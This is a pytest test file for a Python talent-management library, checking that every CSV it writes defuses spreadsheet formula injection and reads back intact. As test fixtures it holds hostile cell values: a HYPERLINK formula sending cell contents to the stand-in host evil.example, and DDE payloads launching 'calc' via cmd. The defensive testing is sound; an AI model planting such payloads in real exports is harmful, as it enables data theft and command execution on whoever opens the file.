"""Formula injection: every CSV the core and the ``talent`` command write is defused by one rule.

Each writer gets people, groups, ids and texts that start like a spreadsheet formula; no cell
of what it writes may start with a formula character, and the product's own readers read the
file back as it was (the rule is undone exactly).
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import talent_core as tc
from talent_core.cli import main
from talent_core.formats import read_framework, write_framework
from talent_core.grouping import read_groups_csv
from talent_core.managers import manager_roster_csv, read_manager_roster

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_defused(text: str) -> None:
    """No cell starts like a formula (numbers the product computed aside)."""
    for row in cells(text):
        for cell in row:
            if cell.startswith(STARTS):
                float(cell)  # only a plain number may start with - or +


# -- the rule itself -------------------------------------------------------------------------


@given(st.text())
def test_restore_formula_undoes_defuse_formula_for_every_text(text: str) -> None:
    assert tc.restore_formula(tc.defuse_formula(text)) == text
    assert not tc.defuse_formula(text).startswith(STARTS)


@pytest.mark.parametrize(
    ("text", "written"),
    [("=1+1", "'=1+1"), ("'=1+1", "''=1+1"), ("'t Hooft", "'t Hooft"), ("ok", "ok"), ("", "")],
)
def test_defusing_adds_one_apostrophe_only_before_a_formula(text: str, written: str) -> None:
    assert tc.defuse_formula(text) == written


def test_csv_text_writes_numbers_as_numbers_and_text_defused() -> None:
    assert cells(tc.csv_text([["a", "b", "c"], [-3, "-3", None]])) == [
        ["a", "b", "c"],
        ["-3", "'-3", ""],
    ]


# -- people, rosters, groups, Teams ----------------------------------------------------------


def evil_people() -> list[tc.Person]:
    people = tc.generate_organisation(20, seed=3)
    changed = []
    for number, person in enumerate(people):
        changed.append(
            dataclasses.replace(
                person,
                name=f"{STARTS[number % 4]}cmd|' /C calc'!A0",
                department=EVIL if number % 2 else "-Sales",
                location="@SUM(1+1)*cmd|' /C calc'!A0",
                extra={"username": f"@user{number}", "note": "+1 see"},
            )
        )
    return changed


def test_people_csv_is_defused_and_reads_back() -> None:
    people = evil_people()
    text = tc.write_people_csv(people)
    assert_defused(text)
    assert tc.read_people_csv(text, "people.csv") == people


def test_roster_csv_is_defused_and_the_block_reads_it_back() -> None:
    rows = [("=u1", EVIL, "member", "-Ann"), ("u2", EVIL, "host", "@Bo")]
    text = tc.roster_csv(rows)
    assert_defused(text)
    roster = tc.read_roster(text, "intervision")
    assert [(m.username, m.group, m.role, m.name) for m in roster.members] == rows


def write_people(tmp_path: Path) -> tuple[Path, list[tc.Person]]:
    people = evil_people()
    path = tmp_path / "people.csv"
    path.write_text(tc.write_people_csv(people), "utf-8")
    return path, people


def test_groups_report_and_teams_written_by_the_cli_are_defused(tmp_path: Path) -> None:
    people_csv, people = write_people(tmp_path)
    groups, report, teams = (tmp_path / name for name in ("g.csv", "r.csv", "t.csv"))
    design = ["groups", "design", str(people_csv), "--mixed-language", "--size", "3-4"]
    assert main([*design, "--prefix", EVIL, "-o", str(groups), "--report", str(report)]) == 0
    for path in (groups, report):
        assert_defused(path.read_text("utf-8"))
    read = read_groups_csv(groups.read_bytes(), "g.csv", people)
    assert all(group.name.startswith(EVIL) for group in read)
    assert cells(report.read_text("utf-8"))[1][0].startswith("'" + EVIL)
    teams_args = ["teams-csv", str(groups), "--people", str(people_csv), "--teamset", "=set"]
    code = main(["groups", *teams_args, "-o", str(teams)])
    assert code == 0
    text = teams.read_text("utf-8")
    assert_defused(text)
    header, first = cells(text)[:2]
    assert header == ["user", "mode", "'=set"]
    assert first[0].startswith("'@user") and first[2].startswith("'" + EVIL)


# -- mentoring -------------------------------------------------------------------------------

MENTEES = (
    "id,name,department,manager_id,seniority,language,focus\n"
    "'=e1,'=Ann,'-Sales,,2,en,giving-feedback:2\n"
    "'@e2,Bo,IT,,3,en,delegating\n"
)
MENTORS = (
    "id,name,department,manager_id,seniority,language,capacity,strengths\n"
    "'+m1,'@Mia,HR,,4,en,2,giving-feedback:4;delegating:3\n"
)


def test_pairs_written_by_mentors_match_are_defused(tmp_path: Path) -> None:
    mentees, mentors, pairs = (tmp_path / n for n in ("e.csv", "m.csv", "p.csv"))
    mentees.write_text(MENTEES, "utf-8")
    mentors.write_text(MENTORS, "utf-8")
    assert main(["mentors", "match", str(mentees), str(mentors), "-o", str(pairs)]) == 0
    text = pairs.read_text("utf-8")
    assert_defused(text)
    assert {(row[0], row[1]) for row in cells(text)[1:]} == {("'=e1", "'+m1"), ("'@e2", "'+m1")}


def test_chain_written_by_mentors_chain_is_defused(tmp_path: Path) -> None:
    history, chain = tmp_path / "h.csv", tmp_path / "c.csv"
    history.write_text("programme,mentor_id,mentee_id\n'=2024,'+m1,'-e1\n'@2025,'-e1,x\n", "utf-8")
    assert main(["mentors", "chain", str(history), "-o", str(chain)]) == 0
    text = chain.read_text("utf-8")
    assert_defused(text)
    by_person = {row[0]: row for row in cells(text)[1:]}
    assert by_person["'-e1"][2:4] == ["'=2024", "'@2025"]


# -- frameworks: Moodle CSV and the Open edX taxonomy CSV -------------------------------------


def evil_framework() -> tc.CompetencyFramework:
    data = json.loads(tc.demo_framework().model_dump_json())
    renamed = {node["id"]: f"={node['id']}" for node in data["nodes"][::2]}
    for node in data["nodes"]:
        node["id"] = renamed.get(node["id"], node["id"])
        if node.get("parent_id"):
            node["parent_id"] = renamed.get(node["parent_id"], node["parent_id"])
        node["cross_references"] = [renamed.get(r, r) for r in node.get("cross_references", [])]
        node["name"] = {lang: "@" + text for lang, text in node["name"].items()}
        node["description"] = {"en": EVIL}
    data["name"] = {"en": "-Framework"}
    data["taxonomy"] = ["=domain", "competency"]
    data["scale"]["levels"][0]["label"] = {"en": "-Novice"}
    return tc.load(tc.CompetencyFramework, data)


def test_moodle_csv_is_defused_and_reads_back_the_same() -> None:
    framework = evil_framework()
    data = write_framework(framework, "moodle-csv", language="en")
    text = data.decode("utf-8")
    assert_defused(text)
    again = read_framework(data, "fw.csv", "moodle-csv")
    assert [n.id for n in again.nodes] == [n.id for n in framework.nodes]
    assert [n.parent_id for n in again.nodes] == [n.parent_id for n in framework.nodes]
    assert [n.cross_references for n in again.nodes] == [
        n.cross_references for n in framework.nodes
    ]
    assert again.name == {"en": "-Framework"} and again.taxonomy == ["=domain", "competency"]
    assert again.scale.levels[0].label == {"en": "-Novice"}
    assert write_framework(again, "moodle-csv", language="en") == data


def test_moodle_csv_names_a_defused_id_the_same_way_in_every_cell() -> None:
    """Moodle matches parents and cross references by id number: each reads with the
    apostrophe, so the file still imports with its tree intact (docs/formats.md)."""
    framework = evil_framework()
    rows = cells(write_framework(framework, "moodle-csv", language="en").decode("utf-8"))
    ids = {row[1] for row in rows[1:]}
    for row in rows[2:]:
        assert row[0] == "" or row[0] in ids
        assert all(ref in ids for ref in filter(None, row[10].split(",")))
    assert any(row[0].startswith("'=") for row in rows[2:])


def test_open_edx_taxonomy_csv_is_defused() -> None:
    framework = evil_framework()
    text = write_framework(framework, "openedx-taxonomy-csv", language="en").decode("utf-8")
    assert_defused(text)
    rows = cells(text)
    ids = {row[0] for row in rows[1:]}
    assert any(i.startswith("'=") for i in ids)
    assert all(row[2] in ids for row in rows[1:] if row[2])


def test_cli_convert_writes_defused_moodle_and_taxonomy_files(tmp_path: Path) -> None:
    source = tmp_path / "fw.json"
    source.write_bytes(write_framework(evil_framework(), "json"))
    for target in ("moodle-csv", "openedx-taxonomy-csv"):
        out = tmp_path / f"{target}.csv"
        assert main(["framework", "convert", str(source), "--to", target, "-o", str(out)]) == 0
        assert_defused(out.read_text("utf-8"))


def test_manager_roster_csv_is_defused_and_the_block_reads_it_back() -> None:
    people = [
        tc.Person("1", "=Ann", "", None, "", "", "UTC", 1, "en", {"username": "ann"}),
        tc.Person("2", "@Bo", "", "1", "", "", "UTC", 1, "en", {"username": "bo"}),
    ]
    text = manager_roster_csv(people)
    assert_defused(text)
    assert read_manager_roster(text).rows == (("ann", "", "=Ann"), ("bo", "ann", "@Bo"))


def test_role_csv_is_defused_and_reads_back_the_same(tmp_path: Path) -> None:
    from talent_core.formats import read_roles, write_roles

    framework = tc.demo_framework()
    [role, *_] = tc.demo_roles()
    evil = role.model_copy(
        update={"id": "-role", "name": {"en": EVIL, "sv": "@sv"}, "description": {"nl": "+nl"}}
    )
    data = write_roles([evil], "csv")
    assert_defused(data.decode("utf-8"))
    assert read_roles(data, "roles.csv", framework) == [evil]
    source, out = tmp_path / "roles.json", tmp_path / "roles.csv"
    source.write_bytes(write_roles([evil]))
    assert main(["roles", "convert", str(source), "--to", "csv", "-o", str(out)]) == 0
    assert_defused(out.read_text("utf-8"))
    assert read_roles(out.read_bytes(), "roles.csv", framework) == [evil]


def test_a_role_csv_whose_formula_lost_its_apostrophe_is_refused() -> None:
    """A spreadsheet shows ``'=x`` as ``=x`` and may save it so: the reader refuses it."""
    from talent_core.formats import validate_roles_file

    competency = tc.demo_framework().competencies()[0].id
    cell = '"' + EVIL.replace('"', '""') + '"'
    data = f"role_id,name_en,competency_id,level,importance\nr,{cell},{competency},1,1\n"
    [problem] = validate_roles_file(data.encode(), "roles.csv")
    assert problem.startswith("roles.csv, row 2, column 'name_en': the cell holds a spreadsheet")
